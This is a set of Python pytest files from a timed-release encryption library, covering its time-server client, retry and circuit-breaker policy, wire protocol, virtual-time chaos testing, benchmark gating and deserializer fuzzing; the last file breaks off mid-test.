                wire.encode_message(wire.Announce(update.to_bytes(group)))
            )
            await asyncio.sleep(0.1)
            assert len(client.updates) == 1

            await client.close()
            assert second.cancelled()
            assert client._listener_task is None
            # Idempotent: a second close with nothing running is a no-op.
            await client.close()

        run_virtual(main())


class TestCatchUp:
    def test_catch_up_authenticates_the_backlog(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            await asyncio.sleep(5.5)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            accepted = await client.catch_up()
            return accepted, client.stats()

        accepted, stats = run_virtual(main())
        assert [u.time_label for u in accepted] == [
            f"epoch:{e:012d}".encode() for e in range(6)
        ]
        assert stats["rejected"] == 0

    def test_one_corrupt_blob_does_not_sink_the_batch(
        self, group, node_keypair
    ):
        async def main():
            node = await started_node(group, node_keypair)
            await asyncio.sleep(3.5)
            tamper = TamperTransport(LocalNodeTransport(node), tampers=1)
            client = make_client(group, node_keypair, [tamper])
            accepted = await client.catch_up()
            return accepted, client.stats()

        accepted, stats = run_virtual(main())
        # Epoch 0's blob was corrupted; 1..3 still land.
        assert [u.time_label for u in accepted] == [
            f"epoch:{e:012d}".encode() for e in (1, 2, 3)
        ]
        assert stats["rejected"] == 1

    def test_incremental_catch_up_after(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            await asyncio.sleep(4.5)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            accepted = await client.catch_up(after=node.label_for(2))
            return [u.time_label for u in accepted]

        assert run_virtual(main()) == [
            f"epoch:{e:012d}".encode() for e in (3, 4)
        ]


class TestDecryptQueue:
    def test_parked_ciphertexts_decrypt_after_release(
        self, group, node_keypair, node_user, scheme, rng
    ):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            messages = [b"first", b"second"]
            for index, message in enumerate(messages):
                ciphertext = scheme.encrypt(
                    message,
                    node_user.public,
                    node_keypair.public,
                    node.label_for(index + 2),
                    rng,
                )
                client.park(scheme, ciphertext, node_user)
            parked_before = client.parked
            plaintexts = await client.drain()
            loop_time = asyncio.get_event_loop().time()
            return parked_before, plaintexts, loop_time

        parked, plaintexts, when = run_virtual(main())
        assert parked == 2
        assert plaintexts == [b"first", b"second"]
        assert when >= 3.0  # could not finish before epoch 3 existed

    def test_announce_wakes_a_parked_decrypt_early(
        self, group, node_keypair, node_user, scheme, rng
    ):
        async def main():
            node = await started_node(group, node_keypair)
            transport = LocalNodeTransport(node)
            client = make_client(
                group,
                node_keypair,
                [transport],
                # Backoff so long that polling alone would miss the
                # release by hours; only the announce can wake it.
                backoff=ExponentialBackoff(
                    seeded_rng(1), base=9000.0, max_delay=9000.0
                ),
            )
            listener = asyncio.get_event_loop().create_task(
                client.listen(transport.subscribe())
            )
            ciphertext = scheme.encrypt(
                b"wake up",
                node_user.public,
                node_keypair.public,
                node.label_for(2),
                rng,
            )
            task = client.park(scheme, ciphertext, node_user)
            plaintext = await asyncio.wait_for(task, timeout=60.0)
            listener.cancel()
            return plaintext, asyncio.get_event_loop().time()

        plaintext, when = run_virtual(main())
        assert plaintext == b"wake up"
        assert when < 60.0  # far sooner than the first 9000s poll


class TestPermanentErrors:
    def test_bad_request_propagates_immediately(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group, node_keypair, [LocalNodeTransport(node)]
            )
            deadline = Deadline.never(client._clock)
            with pytest.raises(PermanentServiceError):
                await client._sweep(b"total garbage frame", deadline)
            return client.stats()

        stats = run_virtual(main())
        assert stats["retries"] == 0


class TestHealth:
    def test_health_probe_targets_one_source(self, group, node_keypair):
        async def main():
            node = await started_node(group, node_keypair)
            client = make_client(
                group,
                node_keypair,
                [DeadTransport(), LocalNodeTransport(node)],
            )
            with pytest.raises(ServiceUnavailableError):
                await client.health(source=0)
            return await client.health(source=1)

        fields = run_virtual(main())
        assert fields[b"status"] == b"ok"
