"""Deadline, backoff and circuit-breaker policy — pure, clock-injected."""

import pytest

from repro.crypto.rng import seeded_rng
from repro.errors import (
    CircuitOpenError,
    ParameterError,
    ServiceTimeoutError,
    ServiceUnavailableError,
    TransientServiceError,
)
from repro.service.retry import (
    CLOSED,
    HALF_OPEN,
    OPEN,
    CircuitBreaker,
    Deadline,
    ExponentialBackoff,
    is_retryable,
)


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


class TestTaxonomy:
    def test_transient_family_is_retryable(self):
        assert is_retryable(ServiceUnavailableError("x"))
        assert is_retryable(ServiceTimeoutError("x"))
        assert is_retryable(CircuitOpenError("x"))
        assert is_retryable(TransientServiceError("x"))

    def test_everything_else_is_not(self):
        from repro.errors import PermanentServiceError, ReproError

        assert not is_retryable(PermanentServiceError("x"))
        assert not is_retryable(ReproError("x"))
        assert not is_retryable(ValueError("x"))


class TestDeadline:
    def test_remaining_counts_down_with_the_clock(self):
        clock = FakeClock()
        deadline = Deadline.after(clock, 10.0)
        assert deadline.remaining() == pytest.approx(10.0)
        clock.now = 4.0
        assert deadline.remaining() == pytest.approx(6.0)
        assert not deadline.expired
        clock.now = 10.0
        assert deadline.expired
        assert deadline.remaining() == 0.0

    def test_require_raises_the_timeout_type(self):
        clock = FakeClock()
        deadline = Deadline.after(clock, 1.0)
        deadline.require("warming up")
        clock.now = 2.0
        with pytest.raises(ServiceTimeoutError, match="warming up"):
            deadline.require("warming up")

    def test_clamp_shortens_attempt_timeouts(self):
        clock = FakeClock()
        deadline = Deadline.after(clock, 3.0)
        assert deadline.clamp(10.0) == pytest.approx(3.0)
        assert deadline.clamp(1.0) == pytest.approx(1.0)

    def test_never_is_unbounded(self):
        clock = FakeClock()
        deadline = Deadline.never(clock)
        clock.now = 1e12
        assert not deadline.expired
        assert deadline.clamp(5.0) == 5.0

    def test_negative_rejected(self):
        with pytest.raises(ParameterError):
            Deadline.after(FakeClock(), -1.0)


class TestExponentialBackoff:
    def test_same_seed_same_schedule(self):
        a = ExponentialBackoff(seeded_rng(42))
        b = ExponentialBackoff(seeded_rng(42))
        assert list(a.delays(10)) == list(b.delays(10))

    def test_full_jitter_stays_under_exponential_ceiling(self):
        backoff = ExponentialBackoff(
            seeded_rng(7), base=0.1, factor=2.0, max_delay=5.0
        )
        for attempt in range(20):
            ceiling = backoff.ceiling(attempt)
            assert ceiling == pytest.approx(min(5.0, 0.1 * 2.0**attempt))
            for _ in range(10):
                assert 0.0 <= backoff.delay(attempt) <= ceiling

    def test_parameter_validation(self):
        rng = seeded_rng(0)
        with pytest.raises(ParameterError):
            ExponentialBackoff(rng, base=0.0)
        with pytest.raises(ParameterError):
            ExponentialBackoff(rng, factor=0.5)
        with pytest.raises(ParameterError):
            ExponentialBackoff(rng, base=1.0, max_delay=0.5)
        with pytest.raises(ParameterError):
            backoff = ExponentialBackoff(rng)
            backoff.ceiling(-1)


class TestCircuitBreaker:
    def make(self, **kwargs):
        clock = FakeClock()
        kwargs.setdefault("failure_threshold", 3)
        kwargs.setdefault("reset_timeout", 5.0)
        return clock, CircuitBreaker(clock, **kwargs)

    def test_trips_after_consecutive_failures_only(self):
        _, breaker = self.make()
        breaker.record_failure()
        breaker.record_failure()
        breaker.record_success()  # resets the streak
        breaker.record_failure()
        breaker.record_failure()
        assert breaker.state == CLOSED
        breaker.record_failure()
        assert breaker.state == OPEN
        assert breaker.trips == 1

    def test_open_rejects_without_touching_the_source(self):
        _, breaker = self.make()
        for _ in range(3):
            breaker.record_failure()
        with pytest.raises(CircuitOpenError):
            breaker.check()
        assert not breaker.allows()

    def test_half_open_after_reset_timeout(self):
        clock, breaker = self.make(half_open_probes=1)
        for _ in range(3):
            breaker.record_failure()
        clock.now = 4.9
        assert breaker.state == OPEN
        clock.now = 5.0
        assert breaker.state == HALF_OPEN
        breaker.check()  # reserves the only probe slot
        with pytest.raises(CircuitOpenError, match="probe"):
            breaker.check()

    def test_half_open_success_closes(self):
        clock, breaker = self.make()
        for _ in range(3):
            breaker.record_failure()
        clock.now = 5.0
        breaker.check()
        breaker.record_success()
        assert breaker.state == CLOSED
        breaker.check()  # free flow again

    def test_half_open_failure_reopens_and_restarts_timeout(self):
        clock, breaker = self.make()
        for _ in range(3):
            breaker.record_failure()
        clock.now = 5.0
        breaker.check()
        breaker.record_failure()  # the probe failed
        assert breaker.state == OPEN
        assert breaker.trips == 2
        clock.now = 9.9  # 4.9s after the re-trip: still open
        assert breaker.state == OPEN
        clock.now = 10.0
        assert breaker.state == HALF_OPEN

    def test_parameter_validation(self):
        clock = FakeClock()
        with pytest.raises(ParameterError):
            CircuitBreaker(clock, failure_threshold=0)
        with pytest.raises(ParameterError):
            CircuitBreaker(clock, half_open_probes=0)
        with pytest.raises(ParameterError):
            CircuitBreaker(clock, reset_timeout=0.0)
