"""Wire protocol roundtrips and malformed-frame behaviour."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import (
    DecodingError,
    PermanentServiceError,
    ServiceUnavailableError,
    TransientServiceError,
)
from repro.service import wire

MESSAGES = [
    wire.GetUpdate(b"epoch:000000000007"),
    wire.GetArchive(b""),
    wire.GetArchive(b"epoch:000000000003"),
    wire.Health(),
    wire.Announce(b"update-bytes"),
    wire.UpdateResponse(b"update-bytes"),
    wire.ArchiveResponse(()),
    wire.ArchiveResponse((b"one", b"two", b"three")),
    wire.HealthResponse(((b"status", b"ok"), (b"epoch", b"12"))),
    wire.ErrorResponse(wire.ERR_UNAVAILABLE, b"not yet"),
]


class TestRoundtrip:
    @pytest.mark.parametrize(
        "message", MESSAGES, ids=lambda m: type(m).__name__
    )
    def test_roundtrip(self, message):
        assert wire.decode_message(wire.encode_message(message)) == message

    def test_health_response_as_dict(self):
        response = wire.HealthResponse(((b"status", b"ok"),))
        assert response.as_dict() == {b"status": b"ok"}


class TestErrorMapping:
    def test_unavailable_is_transient(self):
        exc = wire.ErrorResponse(wire.ERR_UNAVAILABLE, b"x").to_exception()
        assert isinstance(exc, ServiceUnavailableError)

    def test_bad_request_is_permanent(self):
        exc = wire.ErrorResponse(wire.ERR_BAD_REQUEST, b"x").to_exception()
        assert isinstance(exc, PermanentServiceError)

    def test_unknown_code_degrades_to_transient(self):
        exc = wire.ErrorResponse(b"code-from-the-future", b"x").to_exception()
        assert isinstance(exc, ServiceUnavailableError)


class TestErrorTaxonomyProperties:
    """The retry policies partition failures into transient (retry) and
    permanent (abandon).  Every error code a peer could ever send —
    known, reserved, or from a future protocol revision — must land in
    exactly one class, and the degrade-to-transient default must never
    soften the one code that means *we* sent garbage."""

    @given(code=st.binary(max_size=32), detail=st.binary(max_size=64))
    def test_every_code_maps_to_exactly_one_class(self, code, detail):
        exc = wire.ErrorResponse(code, detail).to_exception()
        transient = isinstance(exc, TransientServiceError)
        permanent = isinstance(exc, PermanentServiceError)
        assert transient != permanent  # exactly one, never both or neither

    @given(code=st.binary(max_size=32))
    def test_degrade_default_never_masks_bad_request(self, code):
        exc = wire.ErrorResponse(code, b"x").to_exception()
        if code == wire.ERR_BAD_REQUEST:
            assert isinstance(exc, PermanentServiceError)
        else:
            # Unknown and reserved codes retry; only the codes the
            # taxonomy explicitly brands permanent may abandon.
            assert isinstance(exc, TransientServiceError)

    @given(code=st.binary(max_size=32), detail=st.binary(max_size=64))
    def test_classification_survives_the_wire(self, code, detail):
        response = wire.ErrorResponse(code, detail)
        decoded = wire.decode_message(wire.encode_message(response))
        assert decoded == response
        assert type(decoded.to_exception()) is type(response.to_exception())


class TestMalformed:
    def test_empty_frame(self):
        with pytest.raises(DecodingError):
            wire.decode_message(b"")

    def test_unframed_garbage(self):
        with pytest.raises(DecodingError):
            wire.decode_message(b"\xde\xad\xbe\xef")

    def test_unknown_type_byte(self):
        from repro.encoding import pack_chunks

        with pytest.raises(DecodingError, match="unknown"):
            wire.decode_message(pack_chunks(b"\x7e"))

    def test_wrong_field_count(self):
        from repro.encoding import pack_chunks

        with pytest.raises(DecodingError, match="field"):
            wire.decode_message(
                pack_chunks(bytes([wire.GET_UPDATE]), b"a", b"b")
            )

    def test_multibyte_type_rejected(self):
        from repro.encoding import pack_chunks

        with pytest.raises(DecodingError):
            wire.decode_message(pack_chunks(b"\x01\x01", b"label"))

    def test_odd_health_fields_rejected(self):
        from repro.encoding import pack_chunks

        with pytest.raises(DecodingError, match="pairs"):
            wire.decode_message(pack_chunks(bytes([wire.HEALTH_OK]), b"key"))
