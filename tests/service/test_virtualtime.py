"""The virtual-time loop: instant, ordered, deadlock-detecting."""

import asyncio

import pytest

from repro.errors import SimulationError
from repro.service.virtualtime import VirtualTimeLoop, run_virtual


class TestVirtualClock:
    def test_sleep_advances_clock_without_waiting(self):
        async def main():
            loop = asyncio.get_event_loop()
            start = loop.time()
            await asyncio.sleep(3600.0)
            return loop.time() - start

        # An hour of simulated time; the test itself is instant.
        assert run_virtual(main()) == pytest.approx(3600.0)

    def test_clock_starts_at_zero(self):
        async def main():
            return asyncio.get_event_loop().time()

        assert run_virtual(main()) == 0.0

    def test_wait_for_times_out_at_virtual_deadline(self):
        async def main():
            loop = asyncio.get_event_loop()
            with pytest.raises(asyncio.TimeoutError):
                await asyncio.wait_for(asyncio.Event().wait(), timeout=5.0)
            return loop.time()

        assert run_virtual(main()) == pytest.approx(5.0)

    def test_timers_fire_in_deadline_order(self):
        async def main():
            order = []

            async def after(delay, tag):
                await asyncio.sleep(delay)
                order.append(tag)

            await asyncio.gather(
                after(2.0, "a"), after(1.0, "b"), after(3.0, "c")
            )
            return order

        assert run_virtual(main()) == ["b", "a", "c"]

    def test_advance_rejects_negative(self):
        loop = VirtualTimeLoop()
        try:
            with pytest.raises(SimulationError):
                loop.advance(-1.0)
        finally:
            loop.close()


class TestDeadlockDetection:
    def test_blocked_forever_raises_instead_of_hanging(self):
        async def main():
            await asyncio.get_event_loop().create_future()

        with pytest.raises(SimulationError, match="deadlock"):
            run_virtual(main())

    def test_pending_background_tasks_cancelled_on_exit(self):
        cancelled = []

        async def background():
            try:
                await asyncio.sleep(10**9)
            except asyncio.CancelledError:
                cancelled.append(True)
                raise

        async def main():
            asyncio.get_event_loop().create_task(background())
            await asyncio.sleep(1.0)
            return "done"

        assert run_virtual(main()) == "done"
        assert cancelled == [True]
