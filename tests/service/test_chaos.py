"""The chaos property suite (``pytest -m faults``).

One seed drives *everything* — fault schedules, backoff jitter, crash
timing, encryption randomness — so each scenario is byte-reproducible:
the same seed replays the identical interleaving, the identical fault
decisions, the identical final counters.

The two properties under test:

* **Liveness** — whatever the seeded fault schedule does (drops,
  delays, duplicates, reordering, corruption, node crashes with or
  without snapshots), every parked ciphertext eventually decrypts once
  its release time passes.
* **Safety** — the client never accepts an update that fails the
  paper's check ``ê(sG, H1(T)) == ê(G, I_T)``: everything in its cache
  re-verifies, and corrupted traffic shows up only in the ``rejected``
  counter.

Seeds come from ``REPRO_CHAOS_SEEDS`` (comma-separated ints) when set,
so CI can shard or widen the sweep without editing the test.
"""

import asyncio
import os

import pytest

from repro.crypto.rng import seeded_rng
from repro.service.client import ResilientTimeClient
from repro.service.faults import FaultPlan, FaultyChannel, NodeChaos
from repro.service.faults import FaultyTransport
from repro.service.node import LocalNodeTransport, TimeServerNode
from repro.service.virtualtime import run_virtual

pytestmark = pytest.mark.faults

DEFAULT_SEEDS = (101, 202, 303)


def chaos_seeds():
    env = os.environ.get("REPRO_CHAOS_SEEDS")
    if env:
        return tuple(int(part) for part in env.split(","))
    return DEFAULT_SEEDS


def run_scenario(
    group, keypair, user, scheme, seed, lose_snapshot=False
):
    """One full chaos run; returns a summary dict for replay comparison."""
    master = seeded_rng(seed)

    def sub():
        return seeded_rng(master.getrandbits(64))

    rates = dict(
        drop=0.35, delay=0.3, duplicate=0.15, corrupt=0.25, delay_scale=0.4
    )
    enc_rng = sub()
    epoch_rng = sub()

    async def scenario():
        loop = asyncio.get_event_loop()
        primary = TimeServerNode(group, keypair, name="primary")
        mirror = TimeServerNode(group, keypair, name="mirror")
        await primary.start()
        await mirror.start()

        client = ResilientTimeClient(
            group,
            keypair.public,
            [
                FaultyTransport(LocalNodeTransport(primary), FaultPlan(sub(), **rates)),
                FaultyTransport(LocalNodeTransport(mirror), FaultPlan(sub(), **rates)),
            ],
            sub(),
            request_timeout=0.5,
        )
        channel = FaultyChannel(
            primary.subscribe(),
            FaultPlan(sub(), drop=0.3, corrupt=0.3, duplicate=0.2, reorder=0.2),
        )
        loop.create_task(channel.pump())
        loop.create_task(client.listen(channel.queue))

        messages = [f"message-{index}".encode() for index in range(4)]
        for message in messages:
            epoch = epoch_rng.randrange(1, 9)
            ciphertext = scheme.encrypt(
                message,
                user.public,
                keypair.public,
                primary.label_for(epoch),
                enc_rng,
            )
            client.park(scheme, ciphertext, user)

        chaos = NodeChaos(
            primary,
            sub(),
            uptime=(1.5, 4.0),
            outage=(0.5, 2.0),
            lose_snapshot=lose_snapshot,
        )
        chaos_task = loop.create_task(chaos.run(2))

        # Liveness: everything decrypts; the wait_for turns a livelock
        # into a test failure instead of an infinite (virtual) spin.
        plaintexts = await asyncio.wait_for(client.drain(), timeout=5000.0)
        await chaos_task

        # Safety: the cache holds only updates passing the pairing check.
        for update in client.updates.values():
            assert update.verify(group, keypair.public)

        return {
            "plaintexts": plaintexts,
            "stats": client.stats(),
            "crashes": primary.crashes,
            "finished_at": loop.time(),
        }

    result = run_virtual(scenario())
    result["expected"] = [f"message-{index}".encode() for index in range(4)]
    return result


@pytest.mark.parametrize("seed", chaos_seeds())
def test_chaos_eventual_decryption(
    group, node_keypair, node_user, scheme, seed
):
    result = run_scenario(group, node_keypair, node_user, scheme, seed)
    assert result["plaintexts"] == result["expected"]
    assert result["crashes"] == 2


@pytest.mark.parametrize("seed", chaos_seeds()[:1])
def test_chaos_is_byte_reproducible(
    group, node_keypair, node_user, scheme, seed
):
    """Same seed → identical fault schedule, counters and timings."""
    first = run_scenario(group, node_keypair, node_user, scheme, seed)
    second = run_scenario(group, node_keypair, node_user, scheme, seed)
    assert first == second


def test_chaos_survives_snapshot_loss(
    group, node_keypair, node_user, scheme
):
    """Even recovering from nothing (full republish) converges."""
    result = run_scenario(
        group, node_keypair, node_user, scheme, DEFAULT_SEEDS[0],
        lose_snapshot=True,
    )
    assert result["plaintexts"] == result["expected"]
