"""Every example script must run cleanly (they all self-assert)."""

import pathlib
import subprocess
import sys

import pytest

EXAMPLES_DIR = pathlib.Path(__file__).resolve().parent.parent / "examples"
EXAMPLES = sorted(EXAMPLES_DIR.glob("*.py"))


def test_examples_directory_is_populated():
    names = {path.name for path in EXAMPLES}
    assert "quickstart.py" in names
    assert len(EXAMPLES) >= 3


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.name)
def test_example_runs(path):
    result = subprocess.run(
        [sys.executable, str(path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, (
        f"{path.name} failed:\n{result.stdout}\n{result.stderr}"
    )
    assert result.stdout.strip(), f"{path.name} printed nothing"
