"""The benchmark regression gate must judge only shared entries.

``--check`` compares freshly measured medians against the committed
trajectory.  A PR that *adds* benchmark coverage produces fresh-only
keys; those are informational new entries and must never fail the gate.
Only a key measured on both sides can regress.
"""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from benchmarks.trajectory import (  # noqa: E402
    BenchTrajectory,
    compare_entries,
    render_comparison,
)


def _entry(key: str, ms: float) -> dict:
    op, params, variant = key.split(":")
    return {
        "op": op,
        "params": params,
        "variant": variant,
        "median_ms": ms,
        "rounds": 3,
    }


class TestCompareEntries:
    def test_fresh_only_key_is_informational(self):
        committed = {"pairing:toy64:direct": _entry("pairing:toy64:direct", 2.0)}
        fresh = {
            "pairing:toy64:direct": _entry("pairing:toy64:direct", 2.1),
            "encrypt:toy64:gt_table": _entry("encrypt:toy64:gt_table", 0.5),
        }
        rows, regressions, new_keys = compare_entries(committed, fresh, 0.3)
        assert regressions == []
        assert new_keys == ["encrypt:toy64:gt_table"]
        status = {row[0]: row[4] for row in rows}
        assert status["encrypt:toy64:gt_table"] == "new"
        assert status["pairing:toy64:direct"] == "ok"

    def test_new_key_never_regresses_even_when_slow(self):
        rows, regressions, new_keys = compare_entries(
            {}, {"slow:toy64:direct": _entry("slow:toy64:direct", 9999.0)}, 0.3
        )
        assert regressions == []
        assert new_keys == ["slow:toy64:direct"]

    def test_shared_key_regression_still_fails(self):
        committed = {"pairing:toy64:direct": _entry("pairing:toy64:direct", 1.0)}
        fresh = {"pairing:toy64:direct": _entry("pairing:toy64:direct", 2.0)}
        rows, regressions, new_keys = compare_entries(committed, fresh, 0.3)
        assert regressions == ["pairing:toy64:direct"]
        assert new_keys == []

    def test_committed_only_key_reported_not_gated(self):
        committed = {"retired:toy64:direct": _entry("retired:toy64:direct", 1.0)}
        rows, regressions, new_keys = compare_entries(committed, {}, 0.3)
        assert regressions == [] and new_keys == []
        assert rows == [("retired:toy64:direct", 1.0, None, None, "not-measured")]

    def test_render_handles_informational_rows(self):
        committed = {"retired:toy64:direct": _entry("retired:toy64:direct", 1.0)}
        fresh = {"fresh:toy64:direct": _entry("fresh:toy64:direct", 0.7)}
        rows, _, _ = compare_entries(committed, fresh, 0.3)
        table = render_comparison(rows, 0.3)
        assert "new" in table and "not-measured" in table


class TestSpeedupDerivation:
    def test_speedup_vs_direct(self):
        traj = BenchTrajectory(path="/nonexistent/unused.json")
        traj.record("encrypt", "toy64", "direct", 0.010, 3)
        traj.record("encrypt", "toy64", "gt_table", 0.002, 3)
        speedups = traj._derive_speedups(traj.entries)
        assert speedups == {"encrypt:toy64:gt_table": 5.0}
