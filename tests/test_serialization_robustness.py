"""Robustness: every deserializer rejects corrupted input *cleanly*.

A wire-facing library must never crash with an unrelated exception (or
silently accept) on malformed bytes.  These tests fuzz each
``from_bytes`` with truncations, bit flips and random blobs and require
every failure to be a :class:`repro.errors.ReproError` subclass — and
every successful parse to re-serialize to the same bytes or decrypt to
the wrong plaintext, never to crash elsewhere.
"""

import random

from repro.core.keys import ServerPublicKey, UserPublicKey
from repro.core.resilient import ResilientTimeServer, ResilientUpdate
from repro.core.threshold import ThresholdTimeServer, UpdateShare
from repro.core.timeserver import TimeBoundKeyUpdate
from repro.core.tre import TimedReleaseScheme, TRECiphertext
from repro.errors import ReproError

FUZZ_ROUNDS = 40


def _mutations(blob: bytes, rng: random.Random):
    yield b""
    yield blob[:1]
    yield blob[:-1]
    yield blob + b"\x00"
    for _ in range(FUZZ_ROUNDS):
        kind = rng.randrange(3)
        if kind == 0 and blob:  # bit flip
            index = rng.randrange(len(blob))
            mutated = bytearray(blob)
            mutated[index] ^= 1 << rng.randrange(8)
            yield bytes(mutated)
        elif kind == 1:  # truncation
            yield blob[: rng.randrange(len(blob) + 1)]
        else:  # random garbage of similar size
            yield rng.randbytes(len(blob) or 8)


def _assert_clean(parser, blob, reencode=None):
    """Parsing must either raise a ReproError or round-trip coherently."""
    rng = random.Random(0xF422)
    for mutated in _mutations(blob, rng):
        try:
            parsed = parser(mutated)
        except ReproError:
            continue
        if reencode is not None:
            assert reencode(parsed) == mutated


class TestWireRobustness:
    def test_server_public_key(self, group, server):
        blob = server.public_key.to_bytes(group)
        _assert_clean(
            lambda b: ServerPublicKey.from_bytes(group, b),
            blob,
            reencode=lambda k: k.to_bytes(group),
        )

    def test_user_public_key(self, group, user):
        blob = user.public.to_bytes(group)
        _assert_clean(
            lambda b: UserPublicKey.from_bytes(group, b),
            blob,
            reencode=lambda k: k.to_bytes(group),
        )

    def test_update(self, group, server):
        blob = server.publish_update(b"fuzz-update").to_bytes(group)
        _assert_clean(
            lambda b: TimeBoundKeyUpdate.from_bytes(group, b),
            blob,
            reencode=lambda u: u.to_bytes(group),
        )

    def test_tre_ciphertext(self, group, server, user, rng):
        scheme = TimedReleaseScheme(group)
        ct = scheme.encrypt(b"fuzz me", user.public, server.public_key, b"t", rng)
        _assert_clean(
            lambda b: TRECiphertext.from_bytes(group, b),
            ct.to_bytes(group),
            reencode=lambda c: c.to_bytes(group),
        )

    def test_update_share(self, group, rng):
        coordinator, members = ThresholdTimeServer.setup(group, 3, 2, rng)
        blob = members[0].issue_update_share(b"t").to_bytes(group)
        _assert_clean(
            lambda b: UpdateShare.from_bytes(group, b),
            blob,
            reencode=lambda s: s.to_bytes(group),
        )

    def test_resilient_update(self, group, rng):
        server = ResilientTimeServer(group, 4, rng)
        blob = server.publish_update(9).to_bytes(group)
        _assert_clean(
            lambda b: ResilientUpdate.from_bytes(group, b),
            blob,
            reencode=lambda u: u.to_bytes(group),
        )


class TestRoundTrips:
    """The happy path for the newly-serialized types."""

    def test_update_share_roundtrip(self, group, rng):
        coordinator, members = ThresholdTimeServer.setup(group, 3, 2, rng)
        share = members[1].issue_update_share(b"t-x")
        restored = UpdateShare.from_bytes(group, share.to_bytes(group))
        assert restored == share
        assert coordinator.verify_share(restored)

    def test_resilient_update_roundtrip(self, group, rng):
        from repro.core.resilient import ResilientTRE

        server = ResilientTimeServer(group, 5, rng)
        scheme = ResilientTRE(group, server.tree, server.public_key)
        user = scheme.generate_user_keypair(server.public_key, rng)
        ct = scheme.encrypt(b"over the wire", user.public, 6, rng)
        update = server.publish_update(20)
        restored = ResilientUpdate.from_bytes(group, update.to_bytes(group))
        assert restored == update
        assert scheme.decrypt(ct, user, restored, rng) == b"over the wire"

    def test_combined_threshold_update_is_wire_compatible(self, group, rng):
        """A threshold-combined update serializes as an ordinary update."""
        coordinator, members = ThresholdTimeServer.setup(group, 4, 2, rng)
        update = coordinator.combine(
            [m.issue_update_share(b"t-wire") for m in members[:2]]
        )
        blob = update.to_bytes(group)
        restored = TimeBoundKeyUpdate.from_bytes(group, blob)
        assert restored.verify(group, coordinator.public_key)
