"""Robustness: every deserializer rejects corrupted input *cleanly*.

A wire-facing library must never crash with an unrelated exception (or
silently accept) on malformed bytes.  These tests fuzz each
``from_bytes`` with truncations, bit flips and random blobs and require
every failure to be a :class:`repro.errors.ReproError` subclass — and
every successful parse to re-serialize to the same bytes or decrypt to
the wrong plaintext, never to crash elsewhere.
"""

import random

from repro.core.broadcast import BroadcastCiphertext, BroadcastTimedReleaseScheme
from repro.core.keys import ServerPublicKey, UserPublicKey
from repro.core.resilient import ResilientTimeServer, ResilientUpdate
from repro.core.threshold import ThresholdTimeServer, UpdateShare
from repro.core.timeserver import PassiveTimeServer, TimeBoundKeyUpdate
from repro.core.tre import TimedReleaseScheme, TRECiphertext
from repro.errors import ReproError
from repro.service import wire

FUZZ_ROUNDS = 40


def _mutations(blob: bytes, rng: random.Random):
    yield b""
    yield blob[:1]
    yield blob[:-1]
    yield blob + b"\x00"
    for _ in range(FUZZ_ROUNDS):
        kind = rng.randrange(3)
        if kind == 0 and blob:  # bit flip
            index = rng.randrange(len(blob))
            mutated = bytearray(blob)
            mutated[index] ^= 1 << rng.randrange(8)
            yield bytes(mutated)
        elif kind == 1:  # truncation
            yield blob[: rng.randrange(len(blob) + 1)]
        else:  # random garbage of similar size
            yield rng.randbytes(len(blob) or 8)


def _assert_clean(parser, blob, reencode=None):
    """Parsing must either raise a ReproError or round-trip coherently."""
    rng = random.Random(0xF422)
    for mutated in _mutations(blob, rng):
        try:
            parsed = parser(mutated)
        except ReproError:
            continue
        if reencode is not None:
            assert reencode(parsed) == mutated


class TestWireRobustness:
    def test_server_public_key(self, group, server):
        blob = server.public_key.to_bytes(group)
        _assert_clean(
            lambda b: ServerPublicKey.from_bytes(group, b),
            blob,
            reencode=lambda k: k.to_bytes(group),
        )

    def test_user_public_key(self, group, user):
        blob = user.public.to_bytes(group)
        _assert_clean(
            lambda b: UserPublicKey.from_bytes(group, b),
            blob,
            reencode=lambda k: k.to_bytes(group),
        )

    def test_update(self, group, server):
        blob = server.publish_update(b"fuzz-update").to_bytes(group)
        _assert_clean(
            lambda b: TimeBoundKeyUpdate.from_bytes(group, b),
            blob,
            reencode=lambda u: u.to_bytes(group),
        )

    def test_tre_ciphertext(self, group, server, user, rng):
        scheme = TimedReleaseScheme(group)
        ct = scheme.encrypt(b"fuzz me", user.public, server.public_key, b"t", rng)
        _assert_clean(
            lambda b: TRECiphertext.from_bytes(group, b),
            ct.to_bytes(group),
            reencode=lambda c: c.to_bytes(group),
        )

    def test_update_share(self, group, rng):
        coordinator, members = ThresholdTimeServer.setup(group, 3, 2, rng)
        blob = members[0].issue_update_share(b"t").to_bytes(group)
        _assert_clean(
            lambda b: UpdateShare.from_bytes(group, b),
            blob,
            reencode=lambda s: s.to_bytes(group),
        )

    def test_resilient_update(self, group, rng):
        server = ResilientTimeServer(group, 4, rng)
        blob = server.publish_update(9).to_bytes(group)
        _assert_clean(
            lambda b: ResilientUpdate.from_bytes(group, b),
            blob,
            reencode=lambda u: u.to_bytes(group),
        )

    def test_broadcast_ciphertext(self, group, server, rng):
        scheme = BroadcastTimedReleaseScheme(group)
        receivers = [
            scheme._kem.generate_user_keypair(server.public_key, rng).public
            for _ in range(3)
        ]
        ct = scheme.encrypt_broadcast(
            b"to everyone", receivers, server.public_key, b"t-bcast", rng
        )
        _assert_clean(
            lambda b: BroadcastCiphertext.from_bytes(group, b),
            ct.to_bytes(group),
            reencode=lambda c: c.to_bytes(group),
        )

    def test_service_wire_frames(self, group, server):
        update_bytes = server.publish_update(b"fuzz-wire").to_bytes(group)
        frames = [
            wire.encode_message(wire.GetUpdate(b"fuzz-wire")),
            wire.encode_message(wire.UpdateResponse(update_bytes)),
            wire.encode_message(wire.ArchiveResponse((update_bytes,))),
            wire.encode_message(
                wire.HealthResponse(((b"status", b"ok"),))
            ),
            wire.encode_message(
                wire.ErrorResponse(wire.ERR_UNAVAILABLE, b"detail")
            ),
        ]
        for blob in frames:
            _assert_clean(
                wire.decode_message,
